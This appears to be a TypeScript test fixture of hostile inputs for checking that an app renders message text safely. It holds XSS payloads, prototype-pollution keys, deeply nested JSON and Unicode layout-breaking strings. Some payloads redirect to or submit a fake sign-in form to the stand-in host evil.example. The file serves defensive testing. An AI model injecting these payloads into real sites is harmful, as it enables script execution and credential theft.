/** Each leaves a mark if it is ever read as markup or code: an element with `data-pwned`, a dialog, or a request. */
export const MARKUP = [
  '<img src=x data-pwned onerror="alert(1)">',
  '<script data-pwned>alert(2)</script>',
  '</script><script data-pwned>alert(3)</script>',
  '"><svg data-pwned onload=alert(4)>',
  `' autofocus onfocus='alert(5)' data-pwned='`,
  '</textarea></pre></title></style><iframe data-pwned srcdoc="<script>parent.alert(6)</script>">',
  '<a href="javascript:alert(7)" data-pwned>press me</a>',
  '<base href="https://evil.example/" data-pwned>',
  '<link rel=stylesheet href=https://evil.example/x.css data-pwned><style data-pwned>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/" data-pwned>',
  '<form action=https://evil.example data-pwned><button>Sign in again</button></form>',
  '<!--<img src="--><img src=x data-pwned onerror=alert(8)//">',
  '<math><mtext></mtext><mglyph><style><img src=x data-pwned onerror=alert(9)></style></mglyph></math>',
] as const

const CODE = [
  'javascript:alert(10)//https://evil.example/',
  'data:text/html,<script data-pwned>alert(11)</script>',
  `{{constructor.constructor('alert(12)')()}}`,
  '${alert(13)}<%= alert(14) %>#{alert(15)}',
  '`);alert(16);//',
  '\\u003cimg src=x data-pwned onerror=alert(17)\\u003e',
  '&lt;img src=x data-pwned onerror=alert(18)&gt;',
  '%3Cimg%20src=x%20data-pwned%20onerror=alert(19)%3E',
  '__proto__',
  'constructor',
] as const

/** What breaks lines, orders and widths rather than scripts. */
export const LAYOUT = [
  '\u202egnp.exe\u202c reversed \u2066\u2067\u2069',
  'zero\u200bwidth\u200d\ufeff joined\u00ad',
  `Z${'\u0351\u0343\u0323'.repeat(60)}algo`,
  '\u0000\u0007\u001b[31mred\u001b[0m\u0085\u2028\u2029',
  '👩‍👩‍👧‍👦'.repeat(200),
  'مرحبا '.repeat(100),
  'W'.repeat(20_000),
  `${' '.repeat(5_000)}end`,
  '\n'.repeat(2_000),
] as const

const ALL: readonly string[] = [...MARKUP, ...CODE, ...LAYOUT]

const nested = (depth: number, core: string) => `${'{"a":['.repeat(depth)}${core}${']}'.repeat(depth)}`

export interface HostileBody {
  contentType: 'json' | 'text' | 'bytes'
  text: string
}

/** Bodies of messages: every text as a text, as a key and as a value. */
export const BODIES: readonly HostileBody[] = [
  ...ALL.map((text): HostileBody => ({ contentType: 'text', text })),
  ...ALL.map((text): HostileBody => ({
    contentType: 'json',
    text: JSON.stringify({ [text]: [text, { text }] }),
  })),
  { contentType: 'json', text: JSON.stringify(Object.fromEntries(ALL.map((text) => [text, text]))) },
  { contentType: 'json', text: nested(5_000, '"<img src=x data-pwned onerror=alert(20)>"') },
  {
    contentType: 'json',
    text: `{"__proto__":{"pwned":true},"constructor":{"prototype":{"pwned":true}},"n":1e999999}`,
  },
  { contentType: 'json', text: '{"broken": <script data-pwned>alert(21)</script>' },
  { contentType: 'bytes', text: MARKUP.join('') },
]

/** All markup in one, without a place to break a line. */
export const NAME = MARKUP.join('').replaceAll(' ', '\u00a0').slice(0, 180) + MARKUP[0] + 'W'.repeat(300)
